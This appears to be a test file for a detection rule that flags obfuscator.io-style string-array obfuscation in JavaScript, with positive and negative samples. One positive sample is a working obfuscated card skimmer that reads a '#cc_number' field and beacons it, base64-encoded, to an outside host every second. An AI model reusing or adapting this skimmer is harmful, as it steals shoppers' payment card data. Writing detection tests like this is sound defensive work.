// Tests for string-array-obfuscation: many distinct `_0x...` identifiers (obfuscator.io).
// Positives are annotated on the line of the first such identifier (today the engine reports
// this fact at line 1, which no annotation can name). Sections are separate scripts.

// ruleid: string-array-obfuscation
var _0x3a1f = ['value', 'querySelector', 'getElementById', 'src', 'push', 'shift'];
(function (_0x4b2c1d, _0x1e8f3a) {
  var _0x5c7d2e = function (_0x2f9a4b) {
    while (--_0x2f9a4b) { _0x4b2c1d['push'](_0x4b2c1d['shift']()); }
  };
  _0x5c7d2e(++_0x1e8f3a);
}(_0x3a1f, 0x1b3));
var _0x1c2d = function (_0x6d3e4f, _0x7a8b9c) {
  _0x6d3e4f = _0x6d3e4f - 0x0;
  var _0x9e0f1a = _0x3a1f[_0x6d3e4f];
  return _0x9e0f1a;
};
window.__q = document[_0x1c2d('0x1')]('#search');

// ---
// An obfuscated skimmer: string table accessor, card field and drop URL from the table.
// ruleid: string-array-obfuscation
var _0x4e21 = ['value', '#cc_number', 'querySelector', 'https://secure-paygate.xyz/p.gif?d=', 'src'];
var _0x1a2b = function (_0x3c4d5e) { return _0x4e21[_0x3c4d5e]; };
function _0x5f6a(_0x7b8c9d) {
  var _0x2d3e4f = document[_0x1a2b(2)](_0x1a2b(1))[_0x1a2b(0)];
  var _0x6a7b8c = new Image();
  _0x6a7b8c[_0x1a2b(4)] = _0x1a2b(3) + btoa(_0x2d3e4f);
}
var _0x9c0d1e = setInterval(_0x5f6a, 1000);

// ---
// CRC32 table: hex number literals, no `_0x` identifiers.
var table = [];
for (var n = 0; n < 256; n++) {
  var c = n;
  // ok: string-array-obfuscation
  for (var k = 0; k < 8; k++) { c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1; }
  table[n] = c >>> 0;
}

// ---
// A small licence check with three hex-named helpers: below the threshold.
// ok: string-array-obfuscation
var _0xa1b2 = 'LIC-2024', _0xc3d4 = function (k) { return k.length === 8; };
var _0xe5f6 = _0xc3d4(_0xa1b2);
